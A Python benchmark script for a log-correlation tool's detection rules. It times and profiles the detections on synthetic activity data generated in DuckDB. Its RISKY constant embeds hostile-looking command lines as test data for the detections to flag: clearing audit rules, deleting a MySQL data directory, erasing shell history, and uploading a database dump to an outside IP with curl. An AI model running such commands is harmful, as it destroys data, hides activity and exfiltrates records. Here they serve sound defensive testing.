"""Benchmark: what the detections add to correlate (issue 10: at most +50%, peak RSS < 3 GiB).

N actions in the generic format (bench_core's generator; one action in 1000 is a risky command,
every action is a command line, so every process_creation rule runs on every row), ingested
once; then `correlate` without detections and with all shipped rules, each in its own process.
Usage: python bench/bench_detect.py [--unique] [N ...]   (default 1000000)
--unique makes every command line distinct (a number appended), the worst case for the
distinct-values evaluation.

python bench/bench_detect.py --store DB [RUN] [REPEAT]: the detections stage alone on a store
with a finished run (default the last), in a child process: rule loading, then `run_detections`
REPEAT times (default 3) in a transaction that is rolled back (the store is not changed), each
with its CPU and wall seconds and the statements that took longest.
"""

from __future__ import annotations

import sys
from pathlib import Path

import duckdb

sys.path.insert(0, str(Path(__file__).resolve().parent))
import bench_core  # noqa: E402

RISKY = ("CASE i % 1000 WHEN 0 THEN 'auditctl -D' WHEN 1 THEN 'rm -rf /var/lib/mysql' "
         "WHEN 2 THEN 'history -c' WHEN 3 THEN 'curl -T /tmp/db.sql https://203.0.113.7/u' "
         "ELSE 'systemctl restart nginx --now' END AS detail")

CORRELATE = """
import resource, sys, time, json
from correlate.detect.run import DetectionSettings
from correlate.engine import correlate
from correlate.store import Store
on = sys.argv[2] == "on"
with Store(sys.argv[1]) as s:
    from correlate.detect.run import cached_rules
    cached_rules(())                      # rule loading is timed apart
    t = time.perf_counter()
    run = correlate(s, detections=DetectionSettings(enabled=on))
    seconds = time.perf_counter() - t
    rss = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    n = s.scalar("SELECT count(*) FROM detections WHERE run_id = ?", [run])
print(json.dumps({"seconds": seconds, "rss_mib": rss, "detections": n}))
"""

LOAD_RULES = """
import json, time
t = time.perf_counter()
from correlate.detect.rules import load_rules
n = len(load_rules())
print(json.dumps({"seconds": time.perf_counter() - t, "rules": n}))
"""


STAGE = """
import json, sys, time
sys.path.insert(0, sys.argv[4])
c0, w0 = time.process_time(), time.perf_counter()
from correlate.detect.run import cached_rules, run_detections
cached_rules(())
out = {"load_cpu": time.process_time() - c0, "load_wall": time.perf_counter() - w0, "runs": []}
from statement_times import CPU, WALL, profiled
from correlate.clock import now_utc
from correlate.store import Store
with Store(sys.argv[1]) as s:
    run = int(sys.argv[2]) or s.scalar("SELECT max(run_id) FROM runs")
    raw = profiled(s).con._con
    for _ in range(int(sys.argv[3])):
        raw.execute("BEGIN TRANSACTION")
        for table in ("detections", "detection_rules"):
            raw.execute(f"DELETE FROM {table} WHERE run_id = ?", [run])
        CPU.clear(), WALL.clear()
        c, w = time.process_time(), time.perf_counter()
        n = run_detections(s.con, run, None, None, now_utc())
        out["runs"].append({"cpu": time.process_time() - c, "wall": time.perf_counter() - w,
                            "rows": n, "top": [(k, WALL[k], CPU[k]) for k, _ in WALL.most_common(6)]})
        raw.execute("ROLLBACK")
print(json.dumps(out))
"""


def stage(db: str, run: int = 0, repeat: int = 3) -> None:
    here = str(Path(__file__).resolve().parent)
    out = bench_core.child(STAGE, db, str(run), str(repeat), here)
    print(f"rules loaded in {out['load_cpu']:.3f} CPU-s ({out['load_wall']:.3f} s wall)")
    for r in out["runs"]:
        print(f"run_detections: {r['cpu']:.2f} CPU-s, {r['wall']:.2f} s wall, {r['rows']} rows")
        for key, wall, cpu in r["top"]:
            print(f"    {wall:6.3f} s {cpu:6.3f} CPU-s  {key[:60]}")


def generate(n: int, unique: bool = False) -> Path:
    folder = bench_core.DATA / f"detect-n{n}{'-unique' if unique else ''}"
    if (folder / "activity.jsonl").exists():
        return folder
    folder.mkdir(parents=True, exist_ok=True)
    risky = RISKY.replace(" END AS detail", " END || ' #' || i AS detail") if unique else RISKY
    gen = bench_core.GEN_ACTIVITY.replace("'systemctl restart nginx --now' AS detail", risky)
    assert gen != bench_core.GEN_ACTIVITY
    con = duckdb.connect()
    m = max(n // 100, 1)
    con.execute(gen.format(path=folder / "activity.jsonl"), {"n": n, "m": m, "accounts": 500})
    con.execute(bench_core.GEN_APPROVALS.format(path=folder / "approvals.csv"),
                {"m": m, "accounts": 500})
    con.execute(bench_core.GEN_TICKETS.format(path=folder / "tickets.csv"))
    return folder


def main(sizes: list[int], unique: bool = False) -> None:
    rules = bench_core.child(LOAD_RULES)
    print(f"loading {rules['rules']} rules: {rules['seconds']:.2f} s")
    print(f"{'N':>10} {'corr off s':>11} {'MiB':>6} {'corr on s':>10} {'MiB':>6} {'added':>7} "
          f"{'detections':>11}")
    for n in sizes:
        folder = generate(n, unique)
        db = folder / "bench.duckdb"
        for suffix in ("", ".wal"):
            Path(str(db) + suffix).unlink(missing_ok=True)
        bench_core.child(bench_core.INGEST, str(db), str(folder))
        off = bench_core.child(CORRELATE, str(db), "off")
        on = bench_core.child(CORRELATE, str(db), "on")
        added = on["seconds"] / off["seconds"] - 1
        print(f"{n:>10} {off['seconds']:>11.2f} {off['rss_mib']:>6.0f} {on['seconds']:>10.2f} "
              f"{on['rss_mib']:>6.0f} {added:>7.0%} {on['detections']:>11}")
        for suffix in ("", ".wal"):
            Path(str(db) + suffix).unlink(missing_ok=True)


if __name__ == "__main__":
    args = sys.argv[1:]
    if args[:1] == ["--store"]:
        stage(args[1], *(int(a) for a in args[2:4]))
        raise SystemExit
    main([int(a) for a in args if a != "--unique"] or [1_000_000], "--unique" in args)
